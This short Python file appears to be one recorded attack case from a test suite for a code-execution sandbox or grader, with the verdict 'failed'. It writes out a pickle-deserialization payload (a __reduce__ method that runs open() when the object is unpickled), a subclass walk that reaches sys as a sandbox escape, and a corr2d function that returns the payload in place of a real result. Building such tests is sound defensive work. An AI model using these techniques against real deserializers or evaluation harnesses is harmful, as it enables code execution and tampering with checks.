# /// attack
# rows = [58]
# title = "return an object whose unpickling would run code"
# verdict = "failed"
# ///
sys = next(
    c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "catch_warnings"
)()._module.sys

class Bomb:
    def __reduce__(self):
        return open, ("/tmp/attack-left-pickle", "w")


def corr2d(X, K):
    return Bomb()
